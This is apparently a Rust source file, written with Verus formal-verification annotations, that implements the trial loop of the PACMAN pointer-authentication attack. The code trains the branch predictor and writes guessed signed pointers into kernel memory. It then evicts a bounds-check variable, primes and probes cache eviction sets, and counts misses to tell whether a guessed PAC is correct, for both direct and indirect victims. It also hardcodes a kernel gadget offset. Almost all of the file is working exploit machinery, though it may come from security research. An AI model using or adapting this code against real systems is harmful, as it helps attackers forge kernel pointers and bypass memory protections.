//! The trial protocol engine: the generic train, overwrite-guess,
//! evict-limit-variable, prime, speculative-trigger, probe, cleanup
//! sequence, executed many times per candidate value.
//!
//! One trial yields the number of cache misses observed among the probed
//! addresses, an integer in `[0, evset_size]`; repeating a trial yields a
//! sample set for the statistical classifier.

use vstd::prelude::*;
use crate::oracle::{KernReturn, MemoryOracle, TimingStrategy, timed_use};
use crate::pac::PAC_BITMASK;
use crate::stats;

verus! {

pub const DATA_EVSET_SIZE: usize = 12;

/// Probe latencies above this constitute a miss for data timing.
pub const DATA_MISS_LATENCY: u64 = 42;

pub const INST_EVSET_SIZE: usize = 12;

/// Probe latencies above this constitute a miss for instruction timing.
pub const INST_MISS_LATENCY: u64 = 60;

/// How many addresses evict the bounds-check variable each trial.
pub const LIMIT_EVSET_SIZE: usize = 512;

/// How many non-speculative uses train the branch predictor per trial.
pub const TRAIN_REPS: usize = 12;

/// How many bytes into the kernel image the target `ret` gadget lives.
pub const INST_TARGET_OFFSET: u64 = 0x26a497c;

/// The shape of one trial: eviction-set size, miss threshold, training
/// repetitions, sample-set size, and whether a warm-up iteration is run
/// and discarded. Validated once at startup instead of being baked in at
/// compile time.
#[derive(Clone, Copy, PartialEq, Eq, Structural, Debug)]
pub struct TrialConfig {
    pub evset_size: usize,
    pub miss_latency: u64,
    pub train_reps: usize,
    pub num_iters: usize,
    pub skip_first: bool,
}

impl TrialConfig {
    /// Bounds that keep every sum and product the search forms in range.
    pub open spec fn wf(self) -> bool {
        &&& 1 <= self.evset_size <= 0x10000
        &&& 3 <= self.num_iters <= 0x10000
        &&& self.train_reps <= 0x10000
    }

    /// Runtime validation of the same bounds.
    pub fn validate(&self) -> (r: bool)
        ensures
            r == self.wf(),
    {
        1 <= self.evset_size && self.evset_size <= 0x10000 && 3 <= self.num_iters
            && self.num_iters <= 0x10000 && self.train_reps <= 0x10000
    }
}

/// A victim whose pointer under test can be written straight into its
/// holder location.
#[derive(Clone, Copy, PartialEq, Eq, Structural, Debug)]
pub struct DirectTarget {
    /// The location of the pointer to forge a PAC for.
    pub holder: u64,
    /// A known correct value for holder; should point to something other
    /// than guess_ptr.
    pub train_ptr: u64,
    /// Current guess of the correct value for holder.
    pub guess_ptr: u64,
}

/// A victim whose pointer under test lives behind an intermediate
/// pointer: training toggles the outer holder between a safe target and
/// a forged outer pointer that exposes the inner holder, which carries
/// the value actually under test.
#[derive(Clone, Copy, PartialEq, Eq, Structural, Debug)]
pub struct IndirectTarget {
    pub outer_holder: u64,
    pub inner_holder: u64,
    /// Known correctly signed pointer that makes execution ignore the
    /// inner holder; trained on non-speculatively.
    pub outer_train_ptr: u64,
    /// Known correctly signed pointer that makes execution evaluate the
    /// inner holder.
    pub outer_guess_ptr: u64,
    /// Current guess of the correct value for inner_holder.
    pub inner_guess_ptr: u64,
}

/// Direct or indirect? Abstracts the two victim shapes into one generic
/// trial flavor with exhaustive matching.
#[derive(Clone, Copy, PartialEq, Eq, Structural, Debug)]
pub enum PacmanAttackTarget {
    Direct(DirectTarget),
    Indirect(IndirectTarget),
}

/// The index permutations are in range for their eviction sets, and the
/// forge permutation covers the configured eviction-set size.
pub open spec fn evsets_wf(
    config: TrialConfig,
    forge_evset: Seq<u64>,
    forge_evset_indexes: Seq<usize>,
    limit_evset: Seq<u64>,
    limit_evset_indexes: Seq<usize>,
) -> bool {
    &&& forge_evset_indexes.len() >= config.evset_size
    &&& forall|i: int|
        0 <= i < forge_evset_indexes.len() ==> forge_evset_indexes[i] < forge_evset.len()
    &&& forall|i: int|
        0 <= i < limit_evset_indexes.len() ==> limit_evset_indexes[i] < limit_evset.len()
}

/// Run one trial of the PACMAN protocol on a given pointer and return
/// the probed access latencies for analysis, one per forge eviction-set
/// entry. Works for either a data pointer or an instruction pointer.
///
/// A failed privileged write is fatal for the trial and propagated.
pub fn pacman_try_one<O: MemoryOracle>(
    oracle: &mut O,
    holder: u64,
    known_good: u64,
    guess_value: u64,
    strategy: TimingStrategy,
    config: &TrialConfig,
    forge_evset: &Vec<u64>,
    forge_evset_indexes: &Vec<usize>,
    limit_evset: &Vec<u64>,
    limit_evset_indexes: &Vec<usize>,
) -> (r: Result<Vec<u64>, KernReturn>)
    requires
        config.wf(),
        evsets_wf(*config, forge_evset@, forge_evset_indexes@, limit_evset@, limit_evset_indexes@),
    ensures
        r is Ok ==> r->Ok_0.len() == config.evset_size,
{
    // 1. Train the branch predictor on the known good pointer
    match oracle.kernel_write(holder | PAC_BITMASK, known_good) {
        Ok(_) => (),
        Err(kr) => {
            return Err(kr);
        },
    }
    let mut t: usize = 0;
    while t < config.train_reps
        decreases config.train_reps - t,
    {
        oracle.trigger_nonspeculative();
        t = t + 1;
    }
    // 2. Write the guess
    match oracle.kernel_write(holder | PAC_BITMASK, guess_value) {
        Ok(_) => (),
        Err(kr) => {
            return Err(kr);
        },
    }
    // 3. Evict the bounds-check variable; always a data access,
    // regardless of attack flavor
    let mut i: usize = 0;
    while i < limit_evset_indexes.len()
        invariant
            forall|k: int|
                0 <= k < limit_evset_indexes@.len() ==> limit_evset_indexes@[k]
                    < limit_evset@.len(),
        decreases limit_evset_indexes.len() - i,
    {
        oracle.time_access(limit_evset[limit_evset_indexes[i]]);
        i = i + 1;
    }
    // 4. Prime the cache
    let mut i: usize = 0;
    while i < config.evset_size
        invariant
            config.evset_size <= forge_evset_indexes@.len(),
            forall|k: int|
                0 <= k < forge_evset_indexes@.len() ==> forge_evset_indexes@[k]
                    < forge_evset@.len(),
        decreases config.evset_size - i,
    {
        timed_use(oracle, strategy, forge_evset[forge_evset_indexes[i]]);
        i = i + 1;
    }
    // 5. Try the guess, speculatively only
    oracle.trigger_speculative();
    // 6. Probe: re-time every primed address
    let mut times: Vec<u64> = Vec::new();
    let mut i: usize = 0;
    while i < config.evset_size
        invariant
            config.evset_size <= forge_evset_indexes@.len(),
            forall|k: int|
                0 <= k < forge_evset_indexes@.len() ==> forge_evset_indexes@[k]
                    < forge_evset@.len(),
            i <= config.evset_size,
            times.len() == i,
        decreases config.evset_size - i,
    {
        let latency = timed_use(oracle, strategy, forge_evset[forge_evset_indexes[i]]);
        times.push(latency);
        i = i + 1;
    }
    // 7. Clean up: restore the known-safe value unconditionally, so a
    // mis-speculated guess never persists architecturally
    match oracle.kernel_write(holder | PAC_BITMASK, known_good) {
        Ok(_) => (),
        Err(kr) => {
            return Err(kr);
        },
    }
    Ok(times)
}

/// Run a full sample set of trials against a directly writable holder:
/// each trial's probed latencies are classified against the miss
/// threshold, giving one miss count per iteration, each within
/// `[0, evset_size]`.
pub fn pacman_direct<O: MemoryOracle>(
    oracle: &mut O,
    holder: u64,
    train_ptr: u64,
    guess_ptr: u64,
    strategy: TimingStrategy,
    config: &TrialConfig,
    forge_evset: &Vec<u64>,
    forge_evset_indexes: &Vec<usize>,
    limit_evset: &Vec<u64>,
    limit_evset_indexes: &Vec<usize>,
) -> (r: Result<Vec<u64>, KernReturn>)
    requires
        config.wf(),
        evsets_wf(*config, forge_evset@, forge_evset_indexes@, limit_evset@, limit_evset_indexes@),
    ensures
        r is Ok ==> r->Ok_0.len() == config.num_iters && forall|i: int|
            0 <= i < r->Ok_0.len() ==> r->Ok_0[i] <= config.evset_size,
{
    let mut samples: Vec<u64> = Vec::new();
    let total_iters: usize = if config.skip_first {
        config.num_iters + 1
    } else {
        config.num_iters
    };
    let mut iteration: usize = 0;
    while iteration < total_iters
        invariant
            config.wf(),
            evsets_wf(
                *config,
                forge_evset@,
                forge_evset_indexes@,
                limit_evset@,
                limit_evset_indexes@,
            ),
            total_iters == config.num_iters + if config.skip_first {
                1int
            } else {
                0int
            },
            iteration <= total_iters,
            samples.len() == if config.skip_first && iteration > 0 {
                iteration - 1
            } else {
                iteration as int
            },
            forall|i: int| 0 <= i < samples.len() ==> samples[i] <= config.evset_size,
        decreases total_iters - iteration,
    {
        let times = match pacman_try_one(
            oracle,
            holder,
            train_ptr,
            guess_ptr,
            strategy,
            config,
            forge_evset,
            forge_evset_indexes,
            limit_evset,
            limit_evset_indexes,
        ) {
            Ok(v) => v,
            Err(kr) => {
                return Err(kr);
            },
        };
        // Classify: the number of probed latencies over the threshold is
        // this trial's scalar output
        let misses = stats::count_misses(&times, config.miss_latency);
        if !(config.skip_first && iteration == 0) {
            samples.push(misses as u64);
        }
        iteration = iteration + 1;
    }
    Ok(samples)
}

/// Run a full sample set of trials against an indirect victim: the guess
/// for the pointer under test is rewritten into the inner holder before
/// every trial, while the outer holder is trained on its safe pointer
/// and swapped to the forged outer pointer for the speculative use.
pub fn pacman_indirect<O: MemoryOracle>(
    oracle: &mut O,
    outer_holder: u64,
    inner_holder: u64,
    outer_train_ptr: u64,
    outer_guess_ptr: u64,
    inner_guess_ptr: u64,
    strategy: TimingStrategy,
    config: &TrialConfig,
    forge_evset: &Vec<u64>,
    forge_evset_indexes: &Vec<usize>,
    limit_evset: &Vec<u64>,
    limit_evset_indexes: &Vec<usize>,
) -> (r: Result<Vec<u64>, KernReturn>)
    requires
        config.wf(),
        evsets_wf(*config, forge_evset@, forge_evset_indexes@, limit_evset@, limit_evset_indexes@),
    ensures
        r is Ok ==> r->Ok_0.len() == config.num_iters && forall|i: int|
            0 <= i < r->Ok_0.len() ==> r->Ok_0[i] <= config.evset_size,
{
    let mut samples: Vec<u64> = Vec::new();
    let total_iters: usize = if config.skip_first {
        config.num_iters + 1
    } else {
        config.num_iters
    };
    let mut iteration: usize = 0;
    while iteration < total_iters
        invariant
            config.wf(),
            evsets_wf(
                *config,
                forge_evset@,
                forge_evset_indexes@,
                limit_evset@,
                limit_evset_indexes@,
            ),
            total_iters == config.num_iters + if config.skip_first {
                1int
            } else {
                0int
            },
            iteration <= total_iters,
            samples.len() == if config.skip_first && iteration > 0 {
                iteration - 1
            } else {
                iteration as int
            },
            forall|i: int| 0 <= i < samples.len() ==> samples[i] <= config.evset_size,
        decreases total_iters - iteration,
    {
        // Write our guess into the inner holder; only a speculative use
        // can ever evaluate it
        match oracle.kernel_write(inner_holder, inner_guess_ptr) {
            Ok(_) => (),
            Err(kr) => {
                return Err(kr);
            },
        }
        let times = match pacman_try_one(
            oracle,
            outer_holder,
            outer_train_ptr,
            outer_guess_ptr,
            strategy,
            config,
            forge_evset,
            forge_evset_indexes,
            limit_evset,
            limit_evset_indexes,
        ) {
            Ok(v) => v,
            Err(kr) => {
                return Err(kr);
            },
        };
        let misses = stats::count_misses(&times, config.miss_latency);
        if !(config.skip_first && iteration == 0) {
            samples.push(misses as u64);
        }
        iteration = iteration + 1;
    }
    Ok(samples)
}

/// Run one sample set against either victim shape, substituting
/// `value_to_use` for the pointer under test: the holder's guess in the
/// direct case, the inner holder's in the indirect case.
pub fn pacman_trial<O: MemoryOracle>(
    oracle: &mut O,
    victim: &PacmanAttackTarget,
    value_to_use: u64,
    strategy: TimingStrategy,
    config: &TrialConfig,
    forge_evset: &Vec<u64>,
    forge_evset_indexes: &Vec<usize>,
    limit_evset: &Vec<u64>,
    limit_evset_indexes: &Vec<usize>,
) -> (r: Result<Vec<u64>, KernReturn>)
    requires
        config.wf(),
        evsets_wf(*config, forge_evset@, forge_evset_indexes@, limit_evset@, limit_evset_indexes@),
    ensures
        r is Ok ==> r->Ok_0.len() == config.num_iters && forall|i: int|
            0 <= i < r->Ok_0.len() ==> r->Ok_0[i] <= config.evset_size,
{
    match victim {
        PacmanAttackTarget::Direct(target) => pacman_direct(
            oracle,
            target.holder,
            target.train_ptr,
            value_to_use,
            strategy,
            config,
            forge_evset,
            forge_evset_indexes,
            limit_evset,
            limit_evset_indexes,
        ),
        PacmanAttackTarget::Indirect(target) => pacman_indirect(
            oracle,
            target.outer_holder,
            target.inner_holder,
            target.outer_train_ptr,
            target.outer_guess_ptr,
            value_to_use,
            strategy,
            config,
            forge_evset,
            forge_evset_indexes,
            limit_evset,
            limit_evset_indexes,
        ),
    }
}

} // verus!
